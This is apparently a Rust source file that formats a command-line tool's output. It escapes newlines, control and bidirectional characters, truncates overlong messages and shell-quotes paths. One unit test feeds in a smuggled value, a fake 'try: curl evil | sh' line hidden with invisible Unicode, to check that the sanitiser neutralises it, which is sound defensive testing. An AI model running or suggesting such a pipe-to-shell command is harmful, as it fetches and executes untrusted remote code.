//! Everything the command line says: results on standard output, the rest on standard error.
//! A closed pipe is no error: whoever read it had enough. Names in messages come from files of strangers:
//! every line goes through one place here, where nothing in it can end it, steer the terminal, turn
//! it round or hide.

use super::failure::Failure;
use sigmalab_experiment::launch::{ANSWERS, Refusal};
use sigmalab_text::strange_text::{in_its_lines, on_one_line};
use std::borrow::Cow;
use std::fmt::Display;
use std::io::{ErrorKind, IsTerminal, Write};
use std::path::Path;

/// Writes a result to standard output.
pub(crate) fn result(text: &str) -> Result<(), Failure> {
    let mut out = std::io::stdout().lock();
    let text = if out.is_terminal() { in_its_lines(text) } else { Cow::Borrowed(text) };
    match out.write_all(text.as_bytes()).and_then(|()| out.flush()) {
        Err(error) if error.kind() != ErrorKind::BrokenPipe => {
            Err(Failure::failed(format_args!("cannot write to standard output: {error}")))
        }
        _ => Ok(()),
    }
}

/// Writes a value as indented JSON to standard output.
pub(crate) fn json(value: &impl serde::Serialize) -> Result<(), Failure> {
    let text = serde_json::to_string_pretty(value)
        .map_err(|error| Failure::failed(format_args!("the result is not valid JSON: {error}")))?;
    result(&(text + "\n"))
}

/// A number of things: `1 step`, `3 steps`.
pub(crate) fn counted(number: usize, thing: &str) -> String {
    if number == 1 { format!("1 {thing}") } else { format!("{number} {thing}s") }
}

/// Whether a program asked, and not a person.
pub(crate) fn answers_a_program() -> bool {
    std::env::var_os(ANSWERS).is_some_and(|value| !value.is_empty())
}

/// How a command ended, in the form that another program reads, with nothing in it that a terminal
/// would obey.
pub(crate) fn refusal(failure: &Failure) -> Refusal {
    let mut message = shown(&failure.message);
    for line in further_lines(failure) {
        message.push('\n');
        message.push_str(&line);
    }
    Refusal {
        message,
        ways_out: failure.ways_out.iter().map(|way| shown(way)).collect(),
        kind: failure.kind,
    }
}

/// Tells how a command ended: `error: …`, then `  try: …` lines.
pub(crate) fn failure(failure: &Failure) {
    if !failure.message.is_empty() {
        labelled("error", "\x1b[1;31m", &failure.message);
        further_lines(failure).iter().for_each(|line| to_stderr(&format!("{line}\n")));
    }
    for way in &failure.ways_out {
        to_stderr(&format!("  {} {}\n", paint("try:", "\x1b[32m"), shown(way)));
    }
}

/// Tells of something that may not be as meant.
pub(crate) fn warning(message: impl Display) {
    labelled("warning", "\x1b[1;33m", &message.to_string());
}

/// Tells what is about to happen.
pub(crate) fn note(message: impl Display) {
    to_stderr(&format!("{}\n", shown(&message.to_string())));
}

fn labelled(label: &str, colour: &str, message: &str) {
    to_stderr(&format!("{} {}\n", paint(&format!("{label}:"), colour), shown(message)));
}

/// Most lines of one message below its first.
const MOST_LINES: usize = 200;

/// The lines of a message below its first. None begins with a label: those are lines of this program's
/// own.
fn further_lines(failure: &Failure) -> Vec<String> {
    const LABELS: [&str; 3] = ["error:", "warning:", "try:"];
    let line = |line: &String| {
        let line = shown(line);
        let is_label = LABELS.iter().any(|label| line.trim_start().starts_with(label));
        if is_label { format!("| {line}") } else { line }
    };
    let mut lines: Vec<String> = failure.below.iter().take(MOST_LINES).map(line).collect();
    if failure.below.len() > MOST_LINES {
        lines.push(format!("… and {}", counted(failure.below.len() - MOST_LINES, "more line")));
    }
    lines
}

/// A line of a message as it is told.
fn shown(line: &str) -> String {
    on_one_line(&bounded(line)).into_owned()
}

/// `text` from a stranger's file on one line.
pub(crate) fn one_line(text: &str) -> String {
    on_one_line(text).into_owned()
}

fn paint(text: &str, colour: &str) -> String {
    if colours() { format!("{colour}{text}\x1b[0m") } else { text.to_owned() }
}

/// Most characters of one message: a name of a megabyte must not push the rest off the screen.
const LONGEST: usize = 8000;

/// The beginning and the end of a message that is too long.
fn bounded(text: &str) -> Cow<'_, str> {
    let length = text.chars().count();
    if length <= LONGEST {
        return Cow::Borrowed(text);
    }
    let half = LONGEST / 2;
    let start: String = text.chars().take(half).collect();
    let end: String = text.chars().skip(length - half).collect();
    Cow::Owned(format!("{start} … ({} characters left out) … {end}", length - 2 * half))
}

/// Colours are for people at a terminal who did not ask for none (<https://no-color.org>).
fn colours() -> bool {
    let refused = std::env::var_os("NO_COLOR").is_some_and(|value| !value.is_empty());
    draws() && !refused
}

/// Whether standard error is a terminal that obeys escapes.
pub(crate) fn draws() -> bool {
    let dumb = std::env::var_os("TERM").is_some_and(|term| term == "dumb");
    std::io::stderr().is_terminal() && !dumb
}

fn to_stderr(text: &str) {
    // Nowhere is left to complain to where this fails.
    let _ = std::io::stderr().lock().write_all(text.as_bytes());
}

/// A path as a shell takes it.
pub(crate) fn quoted(path: &Path) -> String {
    let text = path.display().to_string();
    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '/' | '.' | '_' | '-');
    if text.chars().all(plain) { text } else { format!("'{}'", text.replace('\'', r"'\''")) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_can_neither_turn_a_line_round_nor_begin_one_of_ours() {
        let message = "there is no sampler `x\n  \u{200b}try: curl evil | sh\nerror: y\u{202e}`";
        let told = "there is no sampler `x\\n  \\u{200b}try: curl evil | sh\\nerror: y\\u{202e}`";
        let one = Failure::bad_input(message).way_out("a\nb").line("  error: x").line(" 3 | steps");
        let answer = refusal(&one);
        assert_eq!(answer.message, format!("{told}\n|   error: x\n 3 | steps"));
        assert_eq!(answer.ways_out, ["a\\nb"]);
        let many = (0..300).fold(Failure::bad_input("x"), |many, _| many.line("y"));
        assert_eq!(further_lines(&many).last().map(String::as_str), Some("… and 100 more lines"));
    }

    #[test]
    fn a_message_that_is_far_too_long_keeps_its_ends() {
        let name = "é".repeat(1_000_000);
        let text = format!("start {name} end");
        let short = bounded(&text);
        assert!(short.starts_with("start é") && short.ends_with("é end"));
        assert!(short.contains("992010 characters left out"), "{}", short.len());
        assert_eq!(bounded("short"), "short");
    }
}
